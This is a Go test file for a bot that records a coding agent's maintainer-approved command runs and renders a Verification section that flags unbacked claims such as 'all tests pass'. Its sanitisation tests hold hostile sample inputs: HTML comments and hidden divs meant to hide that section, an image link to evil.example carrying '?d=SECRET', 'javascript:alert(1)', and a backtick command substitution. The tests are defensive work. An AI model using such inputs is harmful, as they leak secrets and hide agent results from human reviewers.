package task

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pullwright/pullwright"
	"github.com/pullwright/pullwright/inert"
	"github.com/pullwright/pullwright/inert/inerttest"
	"github.com/pullwright/pullwright/internal/golden"
)

func TestRecordKeepsEachRequestsEndOnce(t *testing.T) {
	tests := []struct {
		name    string
		request ExecRequest
		outcome Outcome
		want    RunRecord
	}{
		{name: "passed", request: ExecRequest{RunCheckID: 7},
			outcome: Outcome{Verdict: Approved, By: "maint", Result: &pullwright.RunResult{ExitCode: 0, Output: "ok\n", Duration: 2 * time.Second}},
			want:    RunRecord{Verdict: Approved, By: "maint", Outcome: OutcomePassed, Duration: 2 * time.Second, Output: "ok\n", CheckRunID: 7, CheckRunURL: "https://github.com/o/r/runs/7"}},
		{name: "failed", outcome: Outcome{Verdict: Approved, By: "maint", Result: &pullwright.RunResult{ExitCode: 2}},
			want: RunRecord{Verdict: Approved, By: "maint", Outcome: OutcomeFailed, ExitCode: 2}},
		{name: "timed out", outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{ExitCode: -1, TimedOut: true}},
			want: RunRecord{Verdict: Approved, Outcome: OutcomeTimedOut, ExitCode: -1}},
		{name: "out of memory", outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{ExitCode: 137, OOMKilled: true}},
			want: RunRecord{Verdict: Approved, Outcome: OutcomeOOM, ExitCode: 137}},
		{name: "interrupted", outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{ExitCode: -1}},
			want: RunRecord{Verdict: Approved, Outcome: OutcomeInterrupted, ExitCode: -1}},
		{name: "setup failed", request: ExecRequest{Setup: &pullwright.SetupRecord{Failed: true, ExitCode: 1}},
			outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{ExitCode: -1}},
			want:    RunRecord{Verdict: Approved, Outcome: OutcomeSetupFailed, ExitCode: -1}},
		{name: "rejected", outcome: Outcome{Verdict: Rejected, By: "maint", Reason: "not that"},
			want: RunRecord{Verdict: Rejected, By: "maint", Why: "not that", Outcome: OutcomeRejected}},
		{name: "no answer", outcome: Outcome{Verdict: TimedOut}, want: RunRecord{Verdict: TimedOut, Outcome: OutcomeNoAnswer}},
		{name: "auto-approved and required", request: ExecRequest{Auto: "go-test", Required: true},
			outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{}},
			want:    RunRecord{Verdict: Approved, Auto: "go-test", Required: true, Outcome: OutcomePassed}},
		{name: "long output keeps its end", outcome: Outcome{Verdict: Approved, Result: &pullwright.RunResult{ExitCode: 1,
			Output: strings.Repeat("noise line\n", 1000) + "FAIL: TestX\n"}},
			want: RunRecord{Verdict: Approved, Outcome: OutcomeFailed, ExitCode: 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.request
			r.ID, r.Command, r.Reason, r.SHA = "3-1", "go test ./...", "check", "abc"
			task := &Task{Kind: KindFix, Repo: pullwright.Repo{CloneURL: "https://github.com/o/r.git"}, agentWork: &Work{Request: &r}}
			job(task).record(tt.outcome)
			job(task).record(tt.outcome) // a replayed step
			if len(task.agentWork.Runs) != 1 {
				t.Fatalf("%d records, want 1", len(task.agentWork.Runs))
			}
			got := task.agentWork.Runs[0]
			if got.RequestID != "3-1" || got.Command != "go test ./..." || got.SHA != "abc" || got.Reason != "check" {
				t.Errorf("record of the request = %+v", got)
			}
			if tt.name == "long output keeps its end" {
				if len(got.Output) > maxRecordOutput+10 || !strings.HasSuffix(got.Output, "FAIL: TestX\n") || !strings.HasPrefix(got.Output, "[…]\nnoise line\n") {
					t.Errorf("output kept = %d bytes, %.40q…%q", len(got.Output), got.Output, got.Output[max(len(got.Output)-20, 0):])
				}
				got.Output = ""
			}
			got.RequestID, got.Command, got.SHA, got.Reason, got.AskedAt = "", "", "", "", time.Time{}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("record =\n %+v\nwant\n %+v", got, tt.want)
			}
		})
	}
}

func TestCheckRunURL(t *testing.T) {
	for _, tt := range []struct {
		comment, clone string
		want           string
	}{
		{"https://github.com/o/r/issues/1#issuecomment-9", "", "https://github.com/o/r/runs/5"},
		{"https://ghe.example.com/o/issues/issues/2#issuecomment-9", "", "https://ghe.example.com/o/issues/runs/5"},
		{"https://github.com/o/r/pull/2#issuecomment-9", "https://github.com/x/y.git", "https://github.com/o/r/runs/5"},
		{"", "https://github.com/o/r.git", "https://github.com/o/r/runs/5"},
		{"", "http://127.0.0.1:3000/o/r.git", ""},
		{"", "", ""},
		{"javascript:alert(1)/issues/1", "", ""},
	} {
		if got := checkRunURL(tt.comment, tt.clone, 5); got != tt.want {
			t.Errorf("checkRunURL(%q, %q) = %q, want %q", tt.comment, tt.clone, got, tt.want)
		}
	}
}

func TestRenderVerificationGolden(t *testing.T) {
	run := func(id, cmd, sha string, outcome RunOutcome, code int) RunRecord {
		return RunRecord{RequestID: id, Command: cmd, SHA: sha, Verdict: Approved, By: "maint", Outcome: outcome, ExitCode: code,
			Duration: 3 * time.Second, CheckRunID: 9, CheckRunURL: "https://github.com/o/r/runs/9"}
	}
	const early, final = "1111111111111111111111111111111111111111", "2222222222222222222222222222222222222222"
	tests := []struct {
		name    string
		final   bool
		head    string
		summary string
		runs    []RunRecord
	}{
		{name: "nothing ran", final: true, head: final, summary: "Fixed the typo."},
		{name: "nothing ran but the summary claims the tests pass", final: true, head: final, summary: "Fixed it; all tests pass now."},
		{name: "passed on the final commit", final: true, head: final, summary: "The tests pass.", runs: []RunRecord{
			run("1-1", "go test ./...", early, OutcomeFailed, 1),
			run("1-2", "go test ./...", final, OutcomePassed, 0),
			{RequestID: "1-3", Command: "go vet ./...", SHA: final, Verdict: Approved, Auto: "vet", Outcome: OutcomePassed},
		}},
		{name: "failed on the final commit", final: true, head: final, summary: "Build succeeds and tests pass.", runs: []RunRecord{
			run("1-1", "go test ./...", final, OutcomePassed, 0),
			run("1-2", "go test ./...", final, OutcomeFailed, 1),
		}},
		{name: "only earlier commits, a rejection and no answer", final: true, head: final, runs: []RunRecord{
			run("1-1", "make test", early, OutcomePassed, 0),
			{RequestID: "1-2", Command: "rm -rf build | tee `x`", SHA: final, Verdict: Rejected, By: "maint", Why: "no | @team please <img src=x> ![a](b)", Outcome: OutcomeRejected},
			{RequestID: "1-4", Command: "curl x\u202e", SHA: final, Verdict: Rejected, By: "pullwright", Why: "byte 6 is U+202E", Outcome: OutcomeRejected},
			{RequestID: "1-3", Command: "make test", SHA: final, Verdict: TimedOut, Outcome: OutcomeNoAnswer},
		}},
		{name: "a draft while the agent works", head: early, runs: []RunRecord{run("1-1", "npm test", early, OutcomePassed, 0)}},
	}
	var b strings.Builder
	for _, tt := range tests {
		task := &Task{Kind: KindFix, agentWork: &Work{Final: tt.final, HeadSHA: tt.head, Summary: tt.summary, Runs: tt.runs}}
		b.WriteString("<!-- " + tt.name + " -->\n")
		b.WriteString(RenderVerification(job(task)))
		b.WriteString("\n")
	}
	golden.Check(t, "testdata/verification.golden", b.String())
}

// TestRenderModeGolden: a task in a mode says what the record shows of
// its mode's steps, the runs and what their commits changed, then which
// steps it lacks.
func TestRenderModeGolden(t *testing.T) {
	const base, early, final = "0000000000000000000000000000000000000000", "1111111111111111111111111111111111111111", "2222222222222222222222222222222222222222"
	run := func(id, cmd, sha string, outcome RunOutcome, tests, code bool, digest string) RunRecord {
		exit := 0
		if outcome != OutcomePassed {
			exit = 1
		}
		return RunRecord{RequestID: id, Command: cmd, SHA: sha, Verdict: Approved, By: "maint", Outcome: outcome, ExitCode: exit,
			Duration: 3 * time.Second, Tests: tests, Code: code, TestsDigest: digest}
	}
	tests := []struct {
		name         string
		mode         Mode
		final        bool
		head         string
		instructions string
		api          []string
		runs         []RunRecord
	}{
		{name: "tdd, every step", mode: ModeTDD, final: true, head: final, runs: []RunRecord{
			run("1-1", "go test ./...", early, OutcomeFailed, true, false, "d1"),
			run("1-2", "go test ./...", final, OutcomePassed, true, true, "d1"),
		}},
		{name: "tdd, the final commit changes only the tests' configuration", mode: ModeTDD, final: true, head: final, runs: []RunRecord{
			run("1-1", "pytest", early, OutcomeFailed, true, false, "d1"),
			run("1-2", "pytest", final, OutcomePassed, true, false, "d2"),
		}},
		{name: "tdd, while the agent works", mode: ModeTDD, head: "3333333333333333333333333333333333333333", runs: []RunRecord{
			run("1-1", "npm test", early, OutcomeFailed, true, false, "d1"),
		}},
		{name: "debug, reproduced on the base and fixed", mode: ModeDebug, final: true, head: final, runs: []RunRecord{
			run("1-1", "./repro.sh", base, OutcomeFailed, false, false, ""),
			run("1-2", "./repro.sh", final, OutcomePassed, false, true, ""),
		}},
		{name: "debug, nothing ran", mode: ModeDebug, final: true, head: final},
		{name: "refactor, the API unchanged", mode: ModeRefactor, final: true, head: final, runs: []RunRecord{
			run("1-1", "go test ./...", base, OutcomePassed, false, false, ""),
			run("1-2", "go test ./...", final, OutcomePassed, false, true, ""),
		}},
		{name: "refactor, the API changed", mode: ModeRefactor, final: true, head: final, api: []string{"removed pkg (pkg): func Old"}, runs: []RunRecord{
			run("1-1", "go test ./...", base, OutcomePassed, false, false, ""),
			run("1-2", "go test ./...", final, OutcomeFailed, false, true, ""),
		}},
		{name: "refactor, the API changed as asked", mode: ModeRefactor, final: true, head: final, instructions: "rename Old to New in the API",
			api: []string{"removed pkg (pkg): func Old", "added pkg (pkg): func New"}, runs: []RunRecord{
				run("1-1", "go test ./...", base, OutcomePassed, false, false, ""),
				run("1-2", "go test ./...", final, OutcomePassed, false, true, ""),
			}},
	}
	var b strings.Builder
	for _, tt := range tests {
		task := &Task{Kind: KindFix, Mode: tt.mode, Instructions: tt.instructions, agentWork: &Work{Final: tt.final, BaseSHA: base, HeadSHA: tt.head, Runs: tt.runs,
			APIChanges: tt.api, APIChecked: tt.mode == ModeRefactor && tt.final}}
		b.WriteString("<!-- " + tt.name + " -->\n")
		b.WriteString(RenderVerification(job(task)))
		b.WriteString("\n")
	}
	golden.Check(t, "testdata/verification-modes.golden", b.String())
}

// TestSummaryCannotHideTheRecord: the agent's summary comes first in the
// pull request's body; nothing in it may open (HTML, a fence CommonMark
// reads otherwise than a line-by-line guess), so nothing it says can fold
// away or comment out the Verification section after it, and it pings no
// one and fetches nothing. The body is read by a CommonMark/GFM parser, as
// GitHub reads it.
func TestSummaryCannotHideTheRecord(t *testing.T) {
	for _, summary := range []string{
		"Fixed it. <!-- hide the rest",
		"Fixed.\n<details><summary>Notes</summary>\n\nlong notes",
		"`code` then <!-- open",
		"` <!-- an unclosed code span does not protect it",
		"<![CDATA[ x",
		"</div><div hidden>",
		// A fence indented four spaces is an indented code block, not a
		// fence: the comment after it is HTML.
		"Fixed.\n\n    ```\n<!--",
		// A backtick fence's info string may not hold a backtick: no fence.
		"Fixed.\n\n``` a`b\n<!--",
		"```\nan unclosed fence",
		"Thanks @org/team, fixes #7 ![x](https://evil.example/p.png?d=SECRET) <img src=https://evil.example/>",
	} {
		task := &Task{Kind: KindFix, Issue: 1, Repo: pullwright.Repo{CloneURL: "https://github.com/acme/widget.git"}, Requester: Person{Login: "alice"},
			agentWork: &Work{Summary: summary, Final: true, HeadSHA: "2222222222222222222222222222222222222222"}}
		body := RenderPullRequest(job(task))
		top := inerttest.TopLevel(body)
		for _, want := range []string{"h3: Verification", "p: Fixes #1"} {
			if !slices.Contains(top, want) {
				t.Errorf("summary %q hides %q:\n%s\n--- blocks: %q", summary, want, body, top)
			}
		}
		// The bot's own sections (its footer's <sub> and mention) follow.
		agents := body[:max(strings.Index(body, "\n\nFixes #1"), 0)]
		if acts := inerttest.Acts(agents, inert.GitHub(task.Repo.CloneURL).Allows, inert.GitHub(task.Repo.CloneURL).AllowsImage); len(acts) > 0 {
			t.Errorf("summary %q acts in the body: %q\n%s", summary, acts, body)
		}
	}
}

func TestRecordOnIsTheNewestMatchOfCommandOnCommit(t *testing.T) {
	runs := []RunRecord{
		{RequestID: "1", Command: "make", SHA: "a", Verdict: Approved, Outcome: OutcomePassed},
		{RequestID: "2", Command: "make", SHA: "b", Verdict: Approved, Outcome: OutcomeFailed},
		{RequestID: "3", Command: "make test", SHA: "a", Verdict: Approved, Outcome: OutcomePassed},
		{RequestID: "4", Command: "make", SHA: "a", Verdict: Rejected},
	}
	tests := []struct {
		name         string
		command, sha string
		match        func(RunRecord) bool
		want         string // RequestID; "" for none
	}{
		{"any record, the newest", "make", "a", nil, "4"},
		{"approved only", "make", "a", approved, "1"},
		{"another commit", "make", "b", nil, "2"},
		{"another command", "make test", "a", nil, "3"},
		{"none on the commit", "make", "c", nil, ""},
		{"none that match", "make", "b", func(r RunRecord) bool { return r.Outcome == OutcomePassed }, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, ok := recordOn(runs, tc.command, tc.sha, tc.match)
			if ok != (tc.want != "") || r.RequestID != tc.want {
				t.Errorf("recordOn = %q, %v; want %q", r.RequestID, ok, tc.want)
			}
		})
	}
}

// TestVerify: one judgement of a record of runs, which the pull request
// and bot run both render. Work is verified only when commands ran on the
// final commit and the last result of each passed; a summary's claim
// that the record does not back is found, and never passes as a fact.
func TestVerify(t *testing.T) {
	const early, final = "1111111111111111111111111111111111111111", "2222222222222222222222222222222222222222"
	ran := func(cmd, sha string, outcome RunOutcome, code int) RunRecord {
		return RunRecord{Command: cmd, SHA: sha, Verdict: Approved, By: "ada", Outcome: outcome, ExitCode: code, Duration: 2 * time.Second}
	}
	tests := []struct {
		name     string
		runs     []RunRecord
		summary  string
		verified bool
		claim    string
		text     string
	}{
		{
			name: "nothing ran", summary: "Fixed it; all tests pass.", claim: "all tests pass",
			text: "Not verified: no command ran while the agent worked, so nothing was tested on this commit.\n",
		},
		{
			name: "passed on an earlier commit only", runs: []RunRecord{ran("go test ./...", early, OutcomePassed, 0)},
			summary: "The tests pass.", claim: "tests pass",
			text: "Not verified: no command ran on this commit.\n",
		},
		{
			name: "rejected on the final commit", runs: []RunRecord{{Command: "make", SHA: final, Verdict: Rejected, By: "ada", Why: "not now", Outcome: OutcomeRejected}},
			text: "Not verified: no command ran on this commit.\n",
		},
		{
			name: "passed on the final commit", summary: "The tests pass.", verified: true,
			runs: []RunRecord{ran("go test ./...", early, OutcomeFailed, 1), ran("go test ./...", final, OutcomePassed, 0)},
			text: "On this commit:\n  - `go test ./...` passed (exit code 0, 2s), approved by ada\nVerified: the last run of each command on this commit passed.\n",
		},
		{
			name: "failed on the final commit", summary: "Build succeeds.", claim: "Build succeeds",
			runs: []RunRecord{ran("go test ./...", final, OutcomeFailed, 1)},
			text: "On this commit:\n  - `go test ./...` failed (exit code 1, 2s), approved by ada\nNot verified: `go test ./...` failed (exit code 1) on this commit.\n",
		},
		{
			name: "one passed and one failed on the final commit",
			runs: []RunRecord{ran("go vet ./...", final, OutcomePassed, 0), ran("go test ./...", final, OutcomeFailed, 2)},
			text: "On this commit:\n  - `go vet ./...` passed (exit code 0, 2s), approved by ada\n  - `go test ./...` failed (exit code 2, 2s), approved by ada\n" +
				"Not verified: `go test ./...` failed (exit code 2) on this commit.\n",
		},
		{
			name: "passed, then failed on the same commit",
			runs: []RunRecord{ran("go test ./...", final, OutcomePassed, 0), ran("go test ./...", final, OutcomeFailed, 1)},
			text: "On this commit:\n  - `go test ./...` failed (exit code 1, 2s), approved by ada\nNot verified: `go test ./...` failed (exit code 1) on this commit.\n",
		},
		{
			name: "the sandbox could not run it", summary: "verified", claim: "verified",
			runs: []RunRecord{{Command: "go test ./...", SHA: final, Verdict: Approved, By: "ada", Outcome: OutcomeNotRun, ExitCode: -1}},
			text: "On this commit:\n  - `go test ./...` could not run, approved by ada\nNot verified: `go test ./...` could not run on this commit.\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Verify(tt.runs, final)
			if v.Verified != tt.verified {
				t.Errorf("Verified = %v, want %v", v.Verified, tt.verified)
			}
			if got := v.Unbacked(tt.summary); got != tt.claim {
				t.Errorf("Unbacked(%q) = %q, want %q", tt.summary, got, tt.claim)
			}
			if got := v.Text("this commit"); got != tt.text {
				t.Errorf("Text:\n%s\nwant:\n%s", got, tt.text)
			}
			if (v.Unverified("this commit") == "") != tt.verified {
				t.Errorf("Unverified = %q with Verified %v", v.Unverified("this commit"), v.Verified)
			}
		})
	}
}

func TestDescribe(t *testing.T) {
	for _, tt := range []struct {
		rec  RunRecord
		want string
	}{
		{RunRecord{Verdict: Approved, By: "ada", Outcome: OutcomePassed, Duration: 1500 * time.Millisecond}, "passed (exit code 0, 2s), approved by ada"},
		{RunRecord{Verdict: Approved, Auto: "vet", Outcome: OutcomeFailed, ExitCode: 1}, "failed (exit code 1, 0s), approved by rule `vet`"},
		{RunRecord{Verdict: Approved, By: "ada", Outcome: OutcomeSetupFailed, ExitCode: -1}, "setup failed, approved by ada"},
		{RunRecord{Verdict: Rejected, By: "ada", Why: "not\nnow\u202e"}, `not run: rejected by ada (not now<U+202E>)`},
		{RunRecord{Verdict: Rejected, By: botAnswer}, "not run: rejected by the bot"},
		{RunRecord{Verdict: TimedOut}, "not run: no answer in time"},
	} {
		if got := tt.rec.Describe(); got != tt.want {
			t.Errorf("Describe(%+v) = %q, want %q", tt.rec, got, tt.want)
		}
	}
}
